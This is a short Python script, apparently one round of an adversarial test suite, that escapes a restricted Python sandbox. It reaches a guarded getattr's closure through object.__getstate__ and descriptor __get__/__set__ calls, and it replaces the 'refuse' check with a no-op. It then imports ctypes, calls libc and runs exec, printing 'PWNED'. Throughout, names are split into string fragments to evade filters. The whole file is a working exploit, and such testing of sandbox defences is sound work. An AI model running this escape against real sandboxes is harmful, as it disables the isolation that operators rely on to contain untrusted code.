# adversary round 8: 022: launcher closures: via object.__getstate__ on descriptor types, call member_descriptor.__get__ for __closure__ of the guarded getattr, find the shared `refuse_` cell, overwrite it through the cell_contents getset's __set__ -> every check becomes a no-op -> import ctypes, native libc call, exec of text
import typing

F = type(lambda: 0)
fdict = object.__getstate__(F)
closure_desc = fdict['__clos' + 'ure__']
mdget = object.__getstate__(type(closure_desc))['__g' + 'et__']
cells = mdget(closure_desc, getattr, F)
C = type(cells[0])
contents = object.__getstate__(C)['cell_con' + 'tents']
gsdict = object.__getstate__(type(contents))
cget, cset = gsdict['__g' + 'et__'], gsdict['__s' + 'et__']
names = []
target = None
for c in cells:
    v = cget(contents, c, C)
    n = repr(v)[:60]
    names.append(n)
    if F is type(v) and v.__name__ == 'refuse':
        target = c
print(names)
cset(contents, target, lambda what: None)
s = object.__getstate__(typing)['sys']
imp = object.__getstate__(s.modules['builtins'])['__imp' + 'ort__']
ct = imp('ctypes')
libc = ct.CDLL(None)
print('ctypes', ct, 'libc getpid', libc.getpid())
bx = s.modules['builtins'].exec
g = {}
bx("v = 'PWN' + 'ED'", g)
print(g['v'])
